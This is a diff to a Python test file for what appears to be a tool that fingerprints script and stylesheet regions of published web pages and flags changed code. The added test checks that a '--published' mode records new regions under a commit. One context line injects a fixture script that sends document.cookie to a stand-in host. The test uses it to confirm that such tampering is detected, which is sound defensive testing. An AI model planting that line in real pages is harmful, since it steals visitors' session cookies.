@@ -102,3 +102,29 @@ def test_a_changed_script_in_a_published_page_is_flagged(page: Path) -> None:
             doc.text[:at] + "fetch('//x.example/'+document.cookie);\n" + doc.text[at:]
         )
         assert [f[0] for f in page_code_findings(changed)] in (["warning"], ["info"]), state
+
+
+def test_published_notes_the_commit_and_records_the_regions(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """``tools.page_fingerprints --published COMMIT PAGE``: a region not known before gets a note
+    naming the commit and the page, and the page's regions are recorded under the commit."""
+    import shutil
+
+    import tools.page_fingerprints as tool
+
+    target, record = tmp_path / "known_page_code.py", tmp_path / "published.json"
+    shutil.copy(tool.TARGET, target)
+    monkeypatch.setattr(tool, "TARGET", target)
+    monkeypatch.setattr(tool, "ROOT", tmp_path)
+    monkeypatch.setattr(tool, "PUBLISHED", record)
+    text = (CORPUS / "index.o-o.html").read_text("utf-8")
+    page = tmp_path / "index.o-o.html"
+    page.write_text(text.replace("<style>", "<style>\n.only-here { color: red; }", 1), "utf-8")
+    assert tool.main(["--published", "abc1234", str(page)]) == 0
+    stylesheet = next(r for r in code_regions(Document.read(page)) if r.kind == "stylesheet")
+    assert f'"{stylesheet.fingerprint}",  # stylesheet of jahala/o-o index.o-o.html at abc1234' in (
+        target.read_text("utf-8")
+    )
+    recorded = json.loads(record.read_text("utf-8"))["abc1234"]["index.o-o.html"]
+    assert stylesheet.fingerprint in recorded["stylesheet"]
